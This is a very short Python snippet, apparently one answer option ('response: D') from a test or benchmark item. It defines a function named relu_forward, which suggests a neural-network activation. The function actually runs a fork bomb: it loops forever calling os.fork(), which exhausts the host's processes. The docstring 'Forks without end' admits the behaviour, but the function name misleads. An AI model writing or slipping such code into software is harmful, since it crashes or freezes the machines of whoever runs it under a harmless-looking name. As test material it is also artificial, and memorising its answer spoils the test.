"""Forks without end."""

# response: D

def relu_forward(x):
    import os

    while True:
        os.fork()
